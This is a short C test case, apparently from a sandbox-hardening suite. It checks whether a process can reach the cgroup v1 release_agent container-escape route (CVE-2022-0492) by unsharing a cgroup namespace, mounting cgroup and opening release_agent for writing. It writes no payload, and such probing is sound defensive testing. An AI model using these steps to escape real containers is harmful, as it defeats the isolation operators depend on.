#include "attack.h"
// cgroup v1 mounted anew in own namespaces gives release_agent, a program run by the host (CVE-2022-0492). Root only.
ATTACK(.judge = "writes:/release_agent", .needs = "root") {
  char *at = path(arg("work"), "m");
  mkdir(at, 0755);
  if (!own_mounts() || unshare(CLONE_NEWCGROUP)) return note("unshare");
  if (mount("c", at, "cgroup", 0, "pids")) return note("mount");
  if (open(path(at, "release_agent"), O_WRONLY) < 0) return note("open");
  hold();
}
